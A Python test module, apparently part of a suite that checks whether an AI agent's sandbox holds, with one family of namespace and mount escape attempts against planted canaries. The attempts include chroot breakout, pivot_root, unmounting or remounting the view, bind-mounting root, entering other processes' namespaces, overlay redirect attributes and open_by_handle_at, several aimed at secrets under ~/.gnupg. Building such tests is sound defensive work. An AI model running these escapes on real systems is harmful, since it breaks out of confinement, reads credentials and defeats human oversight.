"""Family 9: namespaces and mounts. Agents bring sandboxes of their own, so they may make namespaces; what counts is that
nothing of the machine can be reached from there."""

import ctypes
import os
import struct

from canaries import Call, Canary, Secret, Victim, Written, not_harmed, read_bytes, remove
from kit import (
    AGENT, ALLOWED, CLONE_NEWNS, CLONE_NEWPID, CLONE_NEWUSER, MNT_DETACH, MS_BIND, MS_MOVE, MS_NOSUID, MS_PRIVATE, MS_REC,
    MS_REMOUNT, ROOT, VALIDATION, attack, become_namespace_root, libc, mount, processes, syscall, try_call,
)


@attack(Call(), profiles=(VALIDATION,))
def user_namespace_by_unshare(t):
    return try_call("unshare", CLONE_NEWUSER)


@attack(Call(), profiles=(VALIDATION,))
def user_namespace_by_clone(t):
    child = syscall("clone", CLONE_NEWUSER | 17, None, None, None, None)
    if child == 0:
        os._exit(0)
    os.waitpid(child, 0)
    return ALLOWED


@attack(Call(), profiles=(VALIDATION,))
def user_namespace_by_clone3(t):
    child = syscall("clone3", struct.pack("=8Q", CLONE_NEWUSER, 0, 0, 0, 17, 0, 0, 0), 64)
    if child == 0:
        os._exit(0)
    os.waitpid(child, 0)
    return ALLOWED


@attack(Victim(not_harmed), users=(ROOT,))
def mount_namespace_of_another_process(t):
    for pid in [t.pid, *sorted(processes())]:
        try:
            handle = os.open(f"/proc/{pid}/ns/mnt", os.O_RDONLY)
            syscall("setns", handle, CLONE_NEWNS)
            return open(t.hidden).read()
        except OSError as error:
            said = f"errno {error.errno}"
    return said


@attack(Written("{root}/canaries/umount{n}"))
def unmount_the_view(t):
    become_namespace_root()
    said = try_call("umount2", os.fsencode(t.root), MNT_DETACH)
    return said + t.overwrite()


@attack(Written("{home}/.umount{n}"))
def unmount_the_home(t):
    become_namespace_root()
    said = try_call("umount2", os.fsencode(t.home), MNT_DETACH)
    return said + t.overwrite()


@attack(Secret("{home}/.gnupg/umount{n}"))
def unmount_what_hides(t):
    become_namespace_root()
    said = try_call("umount2", os.fsencode(os.path.dirname(t.path)), MNT_DETACH)
    return said + t.read()


@attack(Written("{root}/canaries/move{n}"))
def move_the_view_away(t):
    become_namespace_root()
    os.makedirs("/tmp/aside", exist_ok=True)
    try:
        said = mount(t.root, "/tmp/aside", None, MS_MOVE)
    except OSError as error:
        said = f"errno {error.errno} "
    return f"{said}{t.overwrite()}"


@attack(Written("{outside}/remount{n}"))
def remount_the_root_writable(t):
    become_namespace_root()
    said = ""
    for flags in (MS_REMOUNT | MS_BIND, MS_REMOUNT | MS_BIND | MS_NOSUID):
        try:
            mount(None, "/", None, flags)
        except OSError as error:
            said += f"errno {error.errno} "
    return said + t.overwrite()


@attack(Written("{outside}/bind{n}"))
def bind_the_root_elsewhere(t):
    become_namespace_root()
    os.makedirs("/tmp/whole", exist_ok=True)
    mount("/", "/tmp/whole", None, MS_BIND | MS_REC)
    try:
        mount(None, "/tmp/whole", None, MS_REMOUNT | MS_BIND)
    except OSError:
        pass
    return t.overwrite("/tmp/whole" + t.path)


@attack(Secret("{home}/.gnupg/bind{n}"))
def bind_without_what_is_mounted_below(t):
    become_namespace_root()
    os.makedirs("/tmp/bare", exist_ok=True)
    try:
        mount("/", "/tmp/bare", None, MS_BIND)
        return t.read("/tmp/bare" + t.path)
    except OSError as error:
        return f"errno {error.errno} {t.read()}"


@attack(Written("{outside}/chroot{n}"))
def leave_a_chroot(t):
    become_namespace_root()
    os.makedirs("/tmp/jail", exist_ok=True)
    handle = os.open("/", os.O_RDONLY)
    os.chroot("/tmp/jail")
    os.fchdir(handle)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    return t.overwrite()


@attack(Written("{outside}/pivot{n}"))
def pivot_the_root(t):
    become_namespace_root()
    os.makedirs("/tmp/pivot", exist_ok=True)
    mount("none", "/", None, MS_REC | MS_PRIVATE)
    mount("tmpfs", "/tmp/pivot", "tmpfs", 0)
    os.makedirs("/tmp/pivot/old")
    syscall("pivot_root", b"/tmp/pivot", b"/tmp/pivot/old")
    return t.overwrite("/old" + t.path)


@attack(Victim(not_harmed))
def mount_another_proc(t):
    # As an ordinary user this needs a user namespace that owns the PID namespace, which only a new one does.
    said = environment_in("/proc", t)
    become_namespace_root()
    os.makedirs("/tmp/proc", exist_ok=True)
    try:
        mount("proc", "/tmp/proc", "proc", 0)
    except OSError as error:
        said += f"errno {error.errno} "
    return said + environment_in("/tmp/proc", t) or "none"


def environment_in(folder, t):
    text = read_bytes(f"{folder}/{t.pid}/environ").decode(errors="replace")
    return " ".join(part for part in text.split("\0") if part.startswith("CANARY="))


@attack(Call(), profiles=(VALIDATION,), users=(ROOT,))
def mount_by_the_new_calls(t):
    return try_call("fsopen", b"tmpfs", 0)


@attack(Call(), profiles=(VALIDATION,), users=(ROOT,))
def clone_a_tree_of_mounts(t):
    return try_call("open_tree", -100, b"/", 1)


@attack(Secret("{home}/.gnupg/redirect"), no_control="only an overlay gives these attributes a meaning")
def attributes_of_the_overlay(t):
    said = ""
    os.makedirs("canaries/redirected", exist_ok=True)
    with open("canaries/metacopy", "a"):
        pass
    up = "/.." * 20
    for path, name, value in [
        ("canaries/redirected", "redirect", (up + os.path.dirname(t.path)).encode()),
        ("canaries/redirected", "origin", b"\0"),
        ("canaries/metacopy", "redirect", (up + t.path).encode()),
        ("canaries/metacopy", "metacopy", b""),
    ]:
        for space in ("user", "trusted"):
            try:
                os.setxattr(path, f"{space}.overlay.{name}", value)
                said += "set "
            except OSError as error:
                said += f"{error.errno} "
    for path in ("canaries/redirected/redirect", "canaries/metacopy"):
        said += read_bytes(path).decode(errors="replace")
    return said


class Handle(Secret):
    """A hidden file, and its handle, by which the kernel opens it without any path."""

    def plant(self, world, key):
        facts = super().plant(world, key)
        handle = struct.pack("=Ii", 128, 0) + bytes(128)
        buffer = ctypes.create_string_buffer(handle, len(handle))
        syscall("name_to_handle_at", -100, os.fsencode(facts["path"]), buffer, ctypes.byref(ctypes.c_int()), 0)
        length = struct.unpack_from("=I", buffer)[0]
        return {**facts, "file_handle": buffer.raw[: 8 + length].hex()}


@attack(Handle("{home}/.gnupg/handle{n}"), users=(ROOT,))
def open_by_handle(t):
    mount_point = os.open("/usr", os.O_RDONLY)
    handle = syscall("open_by_handle_at", mount_point, bytes.fromhex(t.file_handle), os.O_RDONLY)
    return os.read(handle, 100).decode()
